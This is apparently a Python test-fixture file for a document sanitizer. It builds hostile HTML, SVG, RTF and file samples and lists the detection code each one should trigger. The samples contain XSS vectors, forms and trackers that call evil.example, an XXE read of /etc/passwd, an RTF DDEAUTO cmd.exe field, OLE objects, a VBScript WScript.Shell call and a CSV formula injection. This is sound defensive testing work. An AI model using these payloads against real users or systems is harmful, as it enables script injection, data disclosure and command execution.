"""Hostile pages, pictures in XML, RTF, texts and programs."""

# ruff: noqa: E501 - markup is quoted in one piece
from __future__ import annotations

from tests.unit.sanitize.sanitize_office import native
from tests.unit.sanitize.sanitize_sample import WORDS, Sample


def page(body, head=""):
    return f"<html><head><title>案内</title>{head}</head><body><p>{WORDS}</p>{body}</body></html>".encode()


PAGES = {
    "script": (page("<script>alert(1)</script>"), "script"),
    "handler": (page('<img src="cid:a" onerror="alert(1)"><b onclick=x()>b</b>'), "event_handler"),
    "form": (
        page('<form action="http://evil.example"><input name=a><button>送る</button></form>'),
        "form",
    ),
    "refresh": (
        page("", '<meta http-equiv="refresh" content="0;url=http://evil.example">'),
        "refresh",
    ),
    "tracker": (
        page('<img src="http://evil.example/t.gif?id=1" width=1 height=1>'),
        "remote_image",
    ),
    "style": (page('<p style="background:url(http://evil.example/t)">x</p>'), "style_url"),
    "sheet": (page("", "<style>@import url(http://evil.example/a.css);</style>"), "style_url"),
    "link": (
        page('<a href="http://evil.example/login">https://www.example.jp/</a>'),
        "link_defanged",
    ),
    "javascript-link": (page('<a href="java&#10;script:alert(1)">押す</a>'), ""),
    "frame": (
        page('<iframe src="http://evil.example"></iframe><object data="x.swf"></object>'),
        "frame",
    ),
    "base": (page('<img src="t.gif">', '<base href="http://evil.example/">'), "external_resource"),
    "svg": (
        page('<svg onload=alert(1)><a xlink:href="javascript:1"><text>x</text></a></svg>'),
        "frame",
    ),
    "mxss": (page("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"), "frame"),
    "conditional": (page("<!--[if mso]><script>1</script><![endif]-->"), "script"),
    "noscript": (
        page('<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
        "event_handler",
    ),
    "srcset": (
        page(
            '<picture><source srcset="http://evil.example/a"><img srcset="//evil.example/b"></picture>'
        ),
        "external_resource",
    ),
    "attribute-link": (
        page('<a href="http://e/&quot; onmouseover=&quot;alert(1)"><b title="</a>">x</b></a>'),
        "link_defanged",
    ),
    "data-link": (page('<a href="data:text/html,<script>1</script>">x</a>'), "link_removed"),
}


def svg(body):
    return (
        '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f"<text>{WORDS}</text>{body}</svg>"
    ).encode()


SVGS = {
    "script": (svg("<script>alert(1)</script>"), "script"),
    "handler": (svg('<rect width="1" height="1" onload="alert(1)"/>'), "event_handler"),
    "foreign": (
        svg(
            '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://evil.example"/></foreignObject>'
        ),
        "frame",
    ),
    "use": (svg('<use xlink:href="http://evil.example/a.svg#x"/>'), "external_resource"),
    "link": (
        svg('<a xlink:href="javascript:alert(1)"><rect width="1" height="1"/></a>'),
        "link_removed",
    ),
    "entity": (
        svg("").replace(
            b"<svg", b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg', 1
        ),
        "processing",
    ),
    "animate": (
        svg('<animate attributeName="href" values="javascript:alert(1)"/>'),
        "unknown_part",
    ),
}


def words(text=WORDS):
    return b"".join(b"\\u%d?" % (ord(c) if ord(c) < 32768 else ord(c) - 65536) for c in text)


def rtf(body):
    return (
        b"{\\rtf1\\ansi\\ansicpg932 {\\fonttbl{\\f0\\fcharset128 MS Mincho;}}"
        + words()
        + b"\\par "
        + body
        + b"}"
    )


_OBJECT = native().hex().encode()
RTFS = {
    "object": (
        rtf(
            b"{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105000002000000080000005061636b61676500 "
            + _OBJECT
            + b"}{\\result "
            + words("図")
            + b"}}"
        ),
        "ole_object",
    ),
    "object-split": (
        rtf(b"{\\object\\objupdate{\\*\\objdata 01{\\x}05\\par 0000 " + _OBJECT + b"}}"),
        "ole_object",
    ),
    "dde": (
        rtf(b'{\\field{\\*\\fldinst { DDEAUTO c:\\\\\\\\cmd.exe "/c calc" }}{\\fldrslt ok}}'),
        "dde",
    ),
    "template": (rtf(b"{\\*\\template http://evil.example/t.dotm}"), "external_template"),
    "link": (
        rtf(b'{\\field{\\*\\fldinst { HYPERLINK "http://evil.example" }}{\\fldrslt here}}'),
        "link_defanged",
    ),
    "include": (
        rtf(
            b'{\\field{\\*\\fldinst { INCLUDEPICTURE "http://evil.example/a.png" }}{\\fldrslt ok}}'
        ),
        "field",
    ),
}
FILES = [
    Sample("setup.exe", b"MZ" + b"\x90\0\3" * 40, "executable", words="無害化のため"),
    Sample("報告書.pdf.txt", b"\x7fELF\2\1\1" + b"\0" * 60, "executable", words="無害化のため"),
    Sample(
        "memo.txt",
        b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"',
        "script_file",
        words="無害化のため",
    ),
    Sample("run.bat", "echo あ".encode("cp932"), "script_file", words="無害化のため"),
    Sample(
        "shortcut.txt",
        b"[InternetShortcut]\r\nURL=file://evil.example/a",
        "script_file",
        words="無害化のため",
    ),
    Sample("表.csv", f"{WORDS},1\r\n=cmd|' /C calc'!A0,2\r\n".encode("cp932"), "csv_formula"),
]


def samples():
    yield from (Sample(f"{name}.html", data, code) for name, (data, code) in PAGES.items())
    yield from (Sample(f"{name}.svg", data, code) for name, (data, code) in SVGS.items())
    yield from (Sample(f"{name}.rtf", data, code) for name, (data, code) in RTFS.items())
    yield from FILES
